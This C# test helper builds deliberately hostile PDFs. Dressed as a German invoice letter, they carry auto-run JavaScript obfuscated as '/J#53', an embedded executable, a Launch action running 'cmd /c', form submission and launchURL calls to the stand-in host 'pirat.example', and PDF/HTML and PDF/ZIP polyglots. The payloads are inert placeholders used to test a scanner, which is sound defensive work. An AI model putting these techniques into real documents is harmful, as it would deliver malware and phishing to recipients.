using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;

namespace Digitize.Faults;

/// <summary>A letter that does whatever a PDF can do besides being read.</summary>
internal static partial class HostileLetter
{
    /// <param name="words">Stand on its page.</param>
    internal static byte[] Pdf(string words)
    {
        const string script = "<</S/Java#53cript/J#53(app.alert\\('pirat'\\))>>";
        return Of(
            $"<</Type/Catalog/Pages 2 0 R/OpenAction{script}/AA<</WC{script}/DP 6 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(a.exe) 7 0 R]>>/Renditions<</Names[(r) 6 0 R]>>>>"
                + $"/AcroForm<</XFA[(template) 9 0 R]/Fields[10 0 R]/CO[10 0 R]>>/Outlines 11 0 R/AF[7 0 R]/Perms<</UR3<<>>>>/Extensions<<>>>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            $"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O{script}/C 6 0 R>>/Annots[10 0 R 13 0 R 14 0 R 15 0 R 16 0 R 17 0 R]>>",
            Stream($"BT /F 14 Tf 60 760 Td ({words}) Tj 0 -40 Td (Sehr geehrte Damen und Herren, anbei unsere Rechnung.) Tj ET"),
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
            $"<</S/JavaScript/JS 18 0 R/Next{script}>>",
            "<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>",
            Stream("MZ pirat", "/Type/EmbeddedFile"),
            Stream("<xdp:xdp><script>pirat</script></xdp:xdp>"),
            $"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 10 10]/A<</S/SubmitForm/F(http://pirat.example/)>>/AA<</K{script}/D 6 0 R>>>>",
            "<</Type/Outlines/First 12 0 R/Last 12 0 R/Count 1>>",
            "<</Title(Seite 1)/Parent 11 0 R/A<</S/Launch/F(pirat.exe)/Win<</F(cmd)/P(/c pirat)>>>>>>",
            "<</Type/Annot/Subtype/Link/Rect[0 0 90 90]/A<</S/GoToR/F(pirat.pdf)/D[0/Fit]>>>>",
            "<</Type/Annot/Subtype/RichMedia/Rect[0 0 90 90]/RichMediaContent<</Assets<</Names[(a.swf) 7 0 R]>>>>/RichMediaSettings<<>>>>",
            $"<</Type/Annot/Subtype/Link/Rect[0 0 90 90]/A<</S/URI/URI(javascript:pirat)>>/PA{script}>>",
            $"<</Type/Annot/Subtype/Screen/Rect[0 0 90 90]/A<</S/Rendition/JS(pirat)/OP 0>>/AA<</PO{script}>>>>",
            $"<</Type/Annot/Subtype/Link/Rect[0 0 90 90]/A<</S/GoTo/D[3 0 R/Fit]/Next[<</S/ImportData/F(pirat)>><</S/GoToE/F 7 0 R>>{script}]>>>>",
            Stream("app.launchURL('http://pirat.example/')"));
    }

    /// <summary>PDF to a PDF reader, a page of the web to a browser that looks at the content.</summary>
    internal static byte[] AndHtml(string words) => [.. "%PDF-1.7\n%<html><body onload=\"pirat()\"><script>pirat()</script></body></html>\n"u8, .. Pdf(words)[9..]];

    /// <summary>PDF from its beginning, ZIP from its end.</summary>
    internal static byte[] AndZip(string words)
    {
        using var file = new MemoryStream();
        file.Write(Pdf(words));
        using var archive = new MemoryStream();
        using (var zip = new ZipArchive(archive, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("pirat.html").Open();
            entry.Write("<script>pirat()</script>"u8);
        }

        file.Write(archive.ToArray());
        return file.ToArray();
    }

    /// <summary>The bytes of a file and of every stream in it that can be inflated: whatever hides in compressed objects is seen. Reads as little of PDF as it can.</summary>
    internal static string Laid(byte[] pdf)
    {
        var text = new StringBuilder(Encoding.Latin1.GetString(pdf));
        var bytes = pdf.AsSpan();
        for (var at = 0; bytes[at..].IndexOf("stream"u8) is var found and >= 0; at += found + 6)
        {
            var start = at + found + 6;
            start += start < pdf.Length && pdf[start] == '\r' ? 1 : 0;
            start += start < pdf.Length && pdf[start] == '\n' ? 1 : 0;
            try
            {
                using var zlib = new ZLibStream(new MemoryStream(pdf, start, pdf.Length - start), CompressionMode.Decompress);
                using var plain = new MemoryStream();
                zlib.CopyTo(plain);
                text.Append('\n').Append(Encoding.Latin1.GetString(plain.ToArray()));
            }
            catch (InvalidDataException)
            {
                // No stream that is deflated: it stands in the bytes of the file as it is.
            }
        }

        // Names may be written with numbers: /J#53 is /JS.
        return Numbered().Replace(text.ToString(), match => ((char)Convert.ToByte(match.Groups[1].Value, 16)).ToString());
    }

    [GeneratedRegex("#([0-9A-Fa-f]{2})")]
    private static partial Regex Numbered();

    private static string Stream(string data, string dictionary = "") => $"<<{dictionary}/Length {data.Length}>>\nstream\n{data}\nendstream";

    /// <summary>Objects from number 1 on; the first is the catalog.</summary>
    internal static byte[] Of(params string[] objects)
    {
        var file = new StringBuilder("%PDF-1.7\n");
        var places = new List<int>();
        foreach (var body in objects)
        {
            places.Add(file.Length);
            file.Append(CultureInfo.InvariantCulture, $"{places.Count} 0 obj\n{body}\nendobj\n");
        }

        var table = file.Length;
        file.Append(CultureInfo.InvariantCulture, $"xref\n0 {places.Count + 1}\n0000000000 65535 f \n");
        places.ForEach(place => file.Append(CultureInfo.InvariantCulture, $"{place:D10} 00000 n \n"));
        file.Append(CultureInfo.InvariantCulture, $"trailer\n<</Size {places.Count + 1}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(file.ToString());
    }
}
